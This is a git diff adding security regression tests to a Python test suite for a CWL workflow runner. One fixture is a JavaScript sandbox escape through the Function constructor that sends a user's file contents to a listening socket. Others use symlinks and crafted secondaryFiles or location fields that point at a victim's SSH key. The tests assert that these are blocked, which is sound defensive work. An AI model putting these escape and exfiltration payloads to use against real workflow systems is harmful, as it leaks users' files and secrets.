@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import shutil
+import socket
 import threading
 from pathlib import Path
 from typing import Any
@@ -288,9 +290,42 @@ def test_javascript_has_no_files_and_no_environment(
     with pytest.raises(InputError, match="step make: "):
         other_site.rerun(sent)
     assert victim.lost_to(other_site.top) == []
-    text = PLANNED.replace('"TOOL"', json.dumps(ESCAPE.partition(", host")[0] + "]}; }")).replace("VALUE", "$(1)")
-    found = other_site.rerun(victim.receive(site.archive(site.submit(text)), tmp_path / "more"))
-    assert json.loads(found.layout.output_object.read_text())["o"] == [["PATH"]]
+
+
+CALLING = """${
+  var net = globalThis.constructor.constructor("return this")().process.getBuiltinModule("net");
+  net.connect("SOCKET").on("error", function() {}).write("what is in " + inputs.f.contents);
+  return {o: 1};
+}"""
+
+
+def heard(listening: socket.socket) -> bytes:
+    """Return what the last of those who called said."""
+    found = b""
+    with contextlib.suppress(TimeoutError):
+        while True:
+            calling, _ = listening.accept()
+            with calling:
+                found = calling.recv(100)
+    return found
+
+
+def test_javascript_reaches_no_program_that_listens(site: Local, other_site: Local, tmp_path: Path) -> None:
+    """A user's D-Bus starts what it is told to."""
+    data = site.write("data/a.txt", "the user's file\n")
+    with socket.socket(socket.AF_UNIX) as listening:
+        listening.bind(str(tmp_path / "bus"))
+        listening.listen()
+        listening.settimeout(2)
+        tool = "class: ExpressionTool\ninputs: {f: {type: File, loadContents: true}}\noutputs: {o: Any}\n"
+        code = json.dumps(CALLING.replace("SOCKET", str(tmp_path / "bus")))
+        head = "cwlVersion: v1.2\nrequirements: {InlineJavascriptRequirement: {}}\n"
+        done = site.submit(f"{head}{tool}expression: {code}\n", {"f": {"class": "File", "path": str(data)}})
+        assert heard(listening) == b"what is in the user's file\n"
+        shutil.copy(site.archive(done), tmp_path / "sent.tgz")
+        with pytest.raises(InputError, match="step w: "):
+            other_site.rerun(tmp_path / "sent.tgz")
+        assert heard(listening) == b""
 
 
 def test_javascript_that_cannot_be_confined_does_not_run(
@@ -406,3 +441,135 @@ def test_an_output_below_a_link_that_leads_out_is_none(site: Local, victim: Vict
     (task,) = tasks(done).values()
     assert task.reason == f"output id_rsa leads to {victim.key}, which is neither an output nor an input"
     assert victim.lost_to(site.top) == []
+
+
+WRITTEN = """
+cwlVersion: v1.2
+class: CommandLineTool
+requirements: {InitialWorkDirRequirement: {listing: [{entryname: cwl.output.json, entry: '{"o": ENTRY}'}]}}
+baseCommand: [sh, -c, 'echo > q; mkdir d']
+inputs: {}
+outputs: {o: Any}
+"""
+
+
+@pytest.mark.parametrize(
+    ("entry", "why"),
+    [
+        ('{"class": "File", "path": "q", "secondaryFiles": [{"location": "file://KEY"}]}', "made secondaryFiles with"),
+        ('{"class": "File", "path": "q", "secondaryFiles": [[{"location": "KEY"}]]}', "made secondaryFiles with"),
+        ('{"class": "File", "path": "q", "listing": [{"path": "KEY"}]}', "made listing with"),
+        ('{"class": "Directory", "path": "d", "secondaryFiles": [{"path": "KEY"}]}', "made secondaryFiles with"),
+        ('{"class": "File", "location": "KEY"}', "which is neither an output nor an input"),
+        (
+            '{"class": "File", "path": "q", "secondaryFiles": [{"class": "File", "location": "KEY"}]}',
+            "neither an output",
+        ),
+        (r'"\ud800"', "a lone surrogate"),
+        (f"{'[' * 300}1{']' * 300}", "nested more than 200 deep"),
+    ],
+)
+def test_what_a_command_writes_of_its_outputs_is_checked_whoever_made_it(
+    site: Local, victim: Victim, entry: str, why: str
+) -> None:
+    victim.key.write_text(SECRET)
+    done = site.submit(WRITTEN.replace("ENTRY", entry.replace("KEY", str(victim.key))))
+    assert state(done) is WorkflowState.ARCHIVED_FAILED
+    (task,) = tasks(done).values()
+    assert why in task.reason
+    assert victim.lost_to(site.top) == []
+
+
+NESTED = "${ var made = 1; for (var i = 0; i < 400; i++) made = {a: made}; return {o: made}; }"
+
+
+def test_an_expression_makes_nothing_too_deep_to_be_archived(site: Local) -> None:
+    done = site.submit(PLANNED.replace("TOOL", NESTED).replace("VALUE", "$(1)"))
+    assert state(done) is WorkflowState.ARCHIVED_FAILED
+    (task,) = tasks(done).values()
+    assert "nested more than 200 deep; write it into a file instead" in task.reason
+
+
+UPDATED = """
+cwlVersion: v1.2
+class: Workflow
+requirements: {InplaceUpdateRequirement: {inplaceUpdate: true}}
+inputs: {}
+outputs: {o: {type: Directory, outputSource: make/o}}
+steps:
+  make:
+    in: {}
+    out: [o]
+    run:
+      class: CommandLineTool
+      baseCommand: [sh, -c, "mkdir d; echo > d/e"]
+      inputs: {}
+      outputs: {o: {type: Directory, outputBinding: {glob: d}}}
+  change:
+    in: {d: make/o}
+    out: []
+    run:
+      class: CommandLineTool
+      requirements: {InitialWorkDirRequirement: {listing: [{entry: $(inputs.d), writable: true}]}}
+      baseCommand: [sh, -c, "COMMAND"]
+      inputs: {d: Directory}
+      outputs: []
+"""
+
+
+@pytest.mark.parametrize("command", ["ln -s KEY d/k", "ln -s FOLDER d/k", "rm -r d; ln -s FOLDER d"])
+def test_what_is_updated_in_place_has_no_links_that_lead_out(site: Local, victim: Victim, command: str) -> None:
+    victim.key.write_text(SECRET)
+    named = command.replace("KEY", str(victim.key)).replace("FOLDER", str(victim.key.parent))
+    done = site.submit(UPDATED.replace("COMMAND", named))
+    assert "which is neither an output nor an input" in tasks(done)["change"].reason
+    # The link itself is still where the command made it.
+    assert [path for path in victim.lost_to(site.top) if not Path(path).is_symlink()] == []
+    assert [path.name for path in (done.layout.root / "outputs").rglob("*")] in ([], ["d", "e"])
+
+
+def test_links_in_what_is_updated_in_place_may_lead_about_in_it(site: Local) -> None:
+    done = site.submit(UPDATED.replace("COMMAND", "ln -s e d/k"))
+    assert state(done) is WorkflowState.ARCHIVED
+    assert sorted(path.name for path in (done.layout.root / "outputs").rglob("*")) == ["d", "e", "k"]
+
+
+PICKED = """
+cwlVersion: v1.2
+class: Workflow
+requirements: {InlineJavascriptRequirement: {}}
+inputs: {}
+outputs: {o: {type: Directory, outputSource: pick/o}}
+steps:
+  make:
+    in: {}
+    out: [o]
+    run:
+      class: CommandLineTool
+      baseCommand: [sh, -c, "echo > q; mkdir -p d/e; echo > d/e/f; ln -s TO d/k"]
+      inputs: {}
+      outputs: {o: {type: File, outputBinding: {glob: q}}}
+  pick:
+    in: {f: make/o}
+    out: [o]
+    run:
+      class: ExpressionTool
+      inputs: {f: File}
+      outputs: {o: Directory}
+      expression: "${ return {o: {class: 'Directory', location: inputs.f.location.replace(/q$/, 'd')}}; }"
+"""
+
+
+@pytest.mark.parametrize(("to", "is_honest"), [("KEY", False), ("FOLDER", False), ("e/f", True), ("e", True)])
+def test_a_folder_that_an_expression_makes_has_no_link_that_leads_out(
+    site: Local, other_site: Local, victim: Victim, tmp_path: Path, to: str, is_honest: bool
+) -> None:
+    named = to.replace("KEY", str(victim.key)).replace("FOLDER", str(victim.key.parent))
+    sent = victim.receive(site.archive(site.submit(PICKED.replace("TO", named))), tmp_path / "mail")
+    found = other_site.rerun(sent)
+    if is_honest:
+        assert state(found) is WorkflowState.ARCHIVED
+        assert (found.layout.outputs / "d/k").exists()
+    else:
+        assert "/out/d/k: reads a file or folder of this host" in tasks(found)["pick"].reason
+        assert [path for path in victim.lost_to(other_site.top) if not Path(path).is_symlink()] == []
